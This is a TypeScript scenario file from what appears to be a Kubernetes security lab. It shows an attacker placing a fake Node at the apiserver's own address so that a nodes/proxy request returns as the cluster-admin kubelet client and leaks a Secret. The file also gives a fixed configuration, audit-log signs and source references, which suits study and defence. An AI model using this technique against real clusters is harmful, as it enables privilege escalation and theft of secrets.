import { addresses, ports } from '../addresses';
import { mintLabPki } from '../lab-pki';
import { makeFalseNode } from './false-node';
import type { Scenario } from './scenario';
import { plantSecret, readSecret } from './secret-of-pod';

const CLIENT = 'kube-apiserver-kubelet-client';

/**
 * attacker ── nodes/edge-9/proxy ──► apiserver ── as kube-apiserver-kubelet-client ──► apiserver itself
 */
export const nodeAddressInControlPlane: Scenario = {
  id: 'node-address-in-control-plane',
  title: 'a node that lives at the apiserver’s own address',
  story:
    'Whoever may make Nodes says where they are, and the apiserver goes there with its own certificate for whoever may get nodes/proxy. Loopback and link-local addresses it has refused since CVE-2022-3294; an address in its own network it takes, for nodes do live there. So the Node is put at the apiserver’s own address and port: the request comes back to the apiserver in the name of its kubelet client, which kubeadm makes an administrator of the whole cluster. The flag --kubelet-certificate-authority does not help here: the apiserver’s certificate is of that CA and for that address.',
  needs: 'The right to create Nodes (or write their status) and to get nodes/proxy.',
  evidence:
    'A Secret that the attacker may not read comes back through nodes/N/proxy, in the name of the apiserver’s own kubelet client.',
  attack: ['T1078'],
  setting: {
    name: 'who --kubelet-client-certificate is',
    open: `O=kubeadm:cluster-admins, CN=${CLIENT} (as kubeadm issues it): cluster-admin`,
    fixed: `CN=${CLIENT} alone, bound to ClusterRole system:kubelet-api-admin`,
  },
  notice: `In the audit log: any request of the user ${CLIENT}, who has no business at an apiserver, from the control plane’s own address and right after a get of nodes/proxy by somebody else; Nodes whose InternalIP is that of the control plane, or whose kubeletEndpoint.Port is not 10250 (kubectl get nodes -o yaml).`,
  sources: [
    'pkg/registry/core/node/strategy.go (ResourceLocation), pkg/proxy/util (IsProxyableHostname: private ranges are allowed)',
    'cmd/kubeadm/app/phases/certs/certlist.go (apiserver-kubelet-client), kubernetes/kubernetes#113757 (CVE-2022-3294)',
    'KEP-4872: its comparison of the common name would stop this one, too',
  ],
  async play(stage, twin) {
    const stock = await mintLabPki();
    const usages = ['clientAuth'] as const;
    const pki =
      twin === 'open'
        ? stock
        : { ...stock, apiserverKubeletClient: await stock.authority.issue({ commonName: CLIENT, usages }) };
    const cluster = await stage.cluster({
      pki,
      kubelet: { serverTLSBootstrap: true },
      kubeletServing: 'cluster-authority',
      apiserver: ['--kubelet-certificate-authority=/etc/kubernetes/pki/ca.crt'],
      objects: [kubeletApiAdmin],
    });
    const { signal } = stage;
    const secret = await plantSecret(stage, cluster, { name: 'vault', spec: {} });
    await stage.did('admin', 'kubectl create secret generic vault …', 'secret/vault created');
    const logs = await cluster.admin.logs({ namespace: 'default', pod: 'web', container: 'web', signal });
    if (!logs.ok) throw new Error(`kubelets do not let the apiserver do its work: ${logs.words}`);
    await stage.did(
      'admin',
      'kubectl logs web',
      'works: the kubelet knows the apiserver’s client and lets it',
    );

    await using node = await makeFalseNode(stage, cluster, {
      address: addresses.controlPlane,
      port: ports.apiserver,
    });
    const direct = await readSecret(node.client, secret.name, signal);
    if (direct.ok) throw new Error('the operator may read secrets by itself');
    await stage.refused('attacker', `kubectl get secret ${secret.name}`, direct.text);

    const { did, answer } = await node.get(`/api/v1/namespaces/default/secrets/${secret.name}`);
    const { data = {} } = (answer.json() ?? {}) as { data?: Record<string, string> };
    const read = Buffer.from(data['password'] ?? '', 'base64').toString('utf8');
    if (secret.isIn(read))
      await stage.gained('attacker', did, read, 'a secret, as the apiserver’s own client');
    else await stage.refused('attacker', did, answer.words);
  },
};

/** What the apiserver needs at kubelets, and no more: in both twins. */
const kubeletApiAdmin = {
  path: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings',
  object: {
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind: 'ClusterRoleBinding',
    metadata: { name: 'kube-apiserver-kubelet-client' },
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'system:kubelet-api-admin' },
    subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: CLIENT }],
  },
};
